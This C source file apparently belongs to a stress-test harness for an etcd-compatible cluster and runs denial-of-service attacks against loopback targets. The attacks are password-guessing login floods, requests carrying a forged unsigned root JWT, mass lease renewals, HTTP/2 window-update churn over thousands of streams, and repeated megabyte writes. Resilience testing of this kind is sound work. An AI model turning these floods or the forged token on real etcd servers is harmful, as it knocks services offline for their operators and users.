/* Requests as fast as a client does that waits for no response. */
#include "cluster/attacks_int.h"

#include "base/mem.h"
#include "cluster/caller_tls.h"
#include "io/clock.h"
#include "pb/codec.h"
#include "pb/etcd_messages.h"

#include <string.h>

enum {
    ADDRESSES_MAX = 8,
    RENEWERS = 4,
    RENEWALS = 500, /* of each, at once: together twice as many as a follower asks about */
    RENEWALS_MS = 500,
    OPEN_STREAMS = 5000,
    WINDOWS_MS = 5, /* between two changes of all their windows */
    LARGE_PUT_BYTES = 1024 * 1024,
};

/* As fast as a client does that waits for no response, in handfuls; from so many addresses in turn,
 * 127.0.0.2 and so on, if there is more than one. */
static void flood(struct attacker *a, unsigned addresses, const char *path, const char *token,
                  struct bytes message)
{
    enum { HANDFUL = 10, PAUSE_MS = 50 };
    struct raw_h2 lines[ADDRESSES_MAX] = {0};

    for (unsigned i = 0; i < addresses; i++)
        lines[i] = (struct raw_h2){.fd = -1, .from = addresses > 1 ? (uint8_t)(i + 2) : 0};
    for (unsigned at = 0;; at = (at + 1) % addresses, attacker_pause_ms(PAUSE_MS)) {
        struct raw_h2 *r = &lines[at];
        bool is_well =
            r->fd >= 0 || raw_h2_open(r, a->context, a->target.client, RAW_H2_WINDOW_MAX);
        for (unsigned i = 0; i < HANDFUL && is_well; i++) {
            is_well = raw_h2_request(r, path, token ? "token" : NULL, token, message);
            attacker_made(a);
        }
        if (!is_well || !raw_h2_drain(r))
            raw_h2_close(r);
    }
}

static void log_in(struct attacker *a, const char *user, unsigned addresses)
{
    struct buf wire = {0};

    pb_encode(
        &pb_authenticate_request_schema,
        &(struct pb_authenticate_request){.name = bytes_of_str(user), .password = BYTES("wrong")},
        &wire);
    flood(a, addresses, "/etcdserverpb.Auth/Authenticate", NULL, buf_bytes(&wire));
}

void attack_by_logins(struct attacker *a)
{
    log_in(a, "root", 1);
}

void attack_by_logins_of_eight(struct attacker *a)
{
    log_in(a, "root", ADDRESSES_MAX);
}

void attack_by_costly_logins(struct attacker *a)
{
    log_in(a, SIEGE_COSTLY_USER, 1);
}

/* The token says that it is root's, until 2099; but nobody has signed it. */
void attack_by_bad_tokens(struct attacker *a)
{
    struct buf wire = {0};

    pb_encode(&pb_range_request_schema, &(struct pb_range_request){.key = BYTES("a")}, &wire);
    flood(a, 1, "/etcdserverpb.KV/Range",
          "eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9."
          "eyJ1c2VybmFtZSI6InJvb3QiLCJyZXZpc2lvbiI6MSwiZXhwIjo0MTAyNDQ0ODAwfQ."
          "AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSYnKCkqKywtLi8wMTIzNDU2Nzg5Ojs8PT4_QA",
          buf_bytes(&wire));
}

/* A follower has to ask the leader about each. */
void attack_by_renewals(struct attacker *a)
{
    struct raw_h2 lines[RENEWERS];
    struct buf block = {0}, renewals = {0};

    raw_h2_put_request(&block, "/etcdserverpb.Lease/LeaseKeepAlive");
    for (unsigned i = 0; i < RENEWERS; i++)
        lines[i] = (struct raw_h2){.fd = -1};
    for (unsigned next = 0;; attacker_pause_ms(RENEWALS_MS))
        for (unsigned i = 0; i < RENEWERS; i++) {
            struct raw_h2 *r = &lines[i];
            bool is_well =
                r->fd >= 0 || (raw_h2_open(r, a->context, a->target.follower, RAW_H2_WINDOW_MAX) &&
                               raw_h2_headers(r, buf_bytes(&block), false));
            for (unsigned k = 0; k < RENEWALS && is_well; k++, next++) {
                buf_clear(&renewals);
                pb_encode(&pb_lease_keep_alive_request_schema,
                          &(struct pb_lease_id){.id = SIEGE_LEASE + next % SIEGE_LEASES},
                          &renewals);
                is_well = raw_h2_message(r, buf_bytes(&renewals), false, false);
                attacker_made(a);
            }
            if (!is_well || !raw_h2_drain(r))
                raw_h2_close(r);
        }
}

/* Each frame changes the windows of all streams. */
void attack_by_windows(struct attacker *a)
{
    struct raw_h2 r = {.fd = -1};
    struct buf block = {0};

    raw_h2_put_request(&block, "/etcdserverpb.Watch/Watch");
    for (;; attacker_pause_ms(1000)) {
        bool is_well = raw_h2_open(&r, a->context, a->target.client, RAW_H2_WINDOW_USUAL);
        for (unsigned i = 0; i < OPEN_STREAMS && is_well; i++)
            is_well = raw_h2_headers(&r, buf_bytes(&block), false);
        for (unsigned i = 0; is_well; i++, attacker_pause_ms(WINDOWS_MS)) {
            is_well = raw_h2_set_window(&r, RAW_H2_WINDOW_USUAL + i % 2) && raw_h2_drain(&r);
            attacker_made(a);
        }
        raw_h2_close(&r);
    }
}

struct large_put {
    struct attacker *attacker;
    struct ask ask;
    uint64_t next_ns;
};

static void large_put_over(struct ask *a)
{
    struct large_put *p = a->context;

    if (a->code == RPC_OK)
        attacker_made(p->attacker);
}

/* Eight a second at most, to a few keys; a client that behaves, but for what it writes. */
void attack_by_large_puts(struct attacker *a)
{
    enum { AT_ONCE = 4, PERIOD_MS = 500 };
    struct large_put puts[AT_ONCE] = {0};
    static uint8_t value[LARGE_PUT_BYTES];
    static const char *const keys[AT_ONCE] = {"large0", "large1", "large2", "large3"};
    struct net_address to = {.family = NET_IP4, .port = a->target.client, .ip = {127, 0, 0, 1}};
    struct caller caller;
    struct tls *tls;
    struct arena arena = {0};
    struct buf why = {0};

    if (caller_init(&caller) != ERR_OK ||
        caller_tls_open(&caller, a->certs, &arena, &why, &tls) != ERR_OK)
        return;
    for (unsigned i = 0; i < AT_ONCE; i++) {
        puts[i].attacker = a;
        puts[i].ask = (struct ask){.line = caller_connect_to(&caller, &to),
                                   .on_over = large_put_over,
                                   .context = &puts[i]};
    }
    for (;; caller_turn(&caller, 50))
        for (unsigned i = 0; i < AT_ONCE; i++) {
            struct large_put *p = &puts[i];
            if (p->ask.line->is_gone) {
                ask_cancel(&p->ask);
                line_reconnect(p->ask.line, &to);
            }
            if (!ask_is_over(&p->ask) || caller_now_ns(&caller) < p->next_ns)
                continue;
            p->next_ns = caller_now_ns(&caller) + PERIOD_MS * NS_PER_MS;
            ask_start(&p->ask, "/etcdserverpb.KV/Put", &pb_put_request_schema,
                      &(struct pb_put_request){.key = bytes_of_str(keys[i]),
                                               .value = bytes_of(value, sizeof(value))});
        }
}
